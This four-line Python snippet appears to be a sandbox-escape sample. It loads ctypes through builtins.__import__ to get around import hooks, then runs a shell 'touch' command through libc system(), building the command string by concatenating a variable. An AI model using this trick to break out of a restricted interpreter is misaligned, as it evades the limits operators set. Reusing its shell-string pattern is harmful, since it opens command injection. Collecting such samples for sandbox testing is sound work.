# ctypes by way of the real __import__.
import builtins
ctypes = builtins.__import__('ctypes')
ctypes.CDLL(None).system(('touch ' + target).encode())
